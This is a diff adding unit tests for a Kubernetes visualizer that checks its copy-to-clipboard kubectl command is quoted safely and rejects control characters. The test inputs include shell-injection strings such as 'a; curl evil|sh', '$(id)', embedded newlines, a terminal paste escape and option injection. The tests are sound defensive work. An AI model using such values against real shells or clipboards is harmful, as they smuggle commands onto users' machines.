@@ -1,5 +1,6 @@
 // Pure parts of the page: what happened, what differs, which problems are the same, and the colors.
 import { readFileSync } from 'node:fs';
+import { nothing } from 'lit-html';
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
 import { placed } from '../../../actors/visualizer/page/chart-labels.ts';
@@ -8,6 +9,7 @@ import { headlineOf } from '../../../actors/visualizer/page/headline.ts';
 import { marksOf } from '../../../actors/visualizer/page/history-marks.ts';
 import { folded } from '../../../actors/visualizer/page/history-panel.ts';
 import { sayingOf } from '../../../actors/visualizer/page/messages-panel.ts';
+import { copyButton, whyCommand } from '../../../actors/visualizer/page/parts.ts';
 import { cardsOf } from '../../../actors/visualizer/page/problems.ts';
 import {
   activitiesOf,
@@ -193,6 +195,27 @@ test('35.A4: problems that say the same of several objects are one card', () => 
       [0, 0],
     ],
   );
+});
+
+test('a command for the clipboard is one line, and each name in it one word of a shell', () => {
+  const of = (kind: string, name: string, namespace = 'shop'): string | undefined =>
+    whyCommand({ kind, name, namespace });
+  assert.is(of('Subnet', 'front-v4'), 'kubectl troupe why subnet/front-v4 -n shop');
+  assert.is(of('Domain', 'a', ''), 'kubectl troupe why domain/a');
+  assert.is(of('Network', 'a; curl evil|sh'), "kubectl troupe why 'network/a; curl evil|sh' -n shop");
+  assert.is(of('Network', "a'$(id)"), "kubectl troupe why 'network/a'\\''$(id)' -n shop");
+  assert.is(of('Network', 'a', '$(id)'), "kubectl troupe why network/a -n '$(id)'");
+  for (const name of ['net\ncurl evil|sh\n#', 'a\rb', 'a\u0000', 'a\u001b[201~', 'a\u009b'])
+    assert.is(of('Network', name), undefined, JSON.stringify(name));
+  assert.is(of('Network', 'a', 'b\nc'), undefined);
+  assert.is(of('--kubeconfig=x', 'a'), undefined, 'no option comes from a link');
+  assert.is(of('Network', 'a', '-o'), undefined);
+});
+
+test('no text with control characters is offered to copy', () => {
+  assert.is.not(copyButton('a b', 'Copy ID'), nothing);
+  assert.is(copyButton('a\nb', 'Copy ID'), nothing);
+  assert.is(copyButton(undefined, 'Copy command'), nothing);
 });
 
 // --- colors -----------------------------------------------------------------------------------------------------------------
